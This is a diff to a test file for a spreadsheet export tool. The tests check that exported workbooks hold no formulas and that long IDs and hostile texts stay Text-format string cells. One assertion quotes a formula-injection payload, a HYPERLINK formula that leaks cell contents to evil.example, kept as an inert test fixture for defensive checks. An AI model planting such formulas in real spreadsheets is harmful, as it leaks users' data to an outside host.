@@ -26,7 +26,7 @@ describe('--excel CSVs carry no formula; programs get the exact values; all read
   it('both draws are made, from the same units', () => {
     expect(drawn.status, drawn.stderr).toBe(0);
     expect(plain.status, plain.stderr).toBe(0);
-    expect(manifestOf(excelDraw).parameters.formula_guard).toBe(1);
+    expect(manifestOf(excelDraw).parameters.formula_guard).toBe(2);
     expect(manifestOf(plainDraw).parameters).not.toHaveProperty('formula_guard');
   });
 
@@ -53,7 +53,7 @@ describe('--excel CSVs carry no formula; programs get the exact values; all read
     expect(excel).toEqual(exact);
   });
 
-  it('the workbook holds no formula, and every hostile text is a string cell in the Text format', () => {
+  it('the workbook holds no formula, and every hostile text and every ID is a string cell in the Text format', () => {
     const unzip = spawnSync(
       'unzip',
       ['-p', join(excelDraw, 'check-workbook.xlsx'), 'xl/worksheets/*.xml', 'xl/sharedStrings.xml', 'xl/styles.xml'],
@@ -63,6 +63,9 @@ describe('--excel CSVs carry no formula; programs get the exact values; all read
     const xml = unzip.stdout;
     expect(xml).not.toMatch(/<f[ >]/);
     expect(xml).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1');
+    // issue 15: 户编号 (16 digits) are strings, and no cell is a number Excel would round
+    expect(xml).toMatch(/<t>[0-9]{16}<\/t>/);
+    expect(xml).not.toMatch(/<c r="[A-Z]+\d+"(?: s="\d+")?(?: t="n")?><v>-?[0-9]{12,}<\/v>/);
     // every string cell (t="s") carries a style whose number format is 49 (Text, "@")
     const textStyles = new Set(
       [...(xml.match(/<cellXfs[^>]*>(.*?)<\/cellXfs>/s)?.[1] ?? '').matchAll(/<xf [^>]*?\/?>/g)]
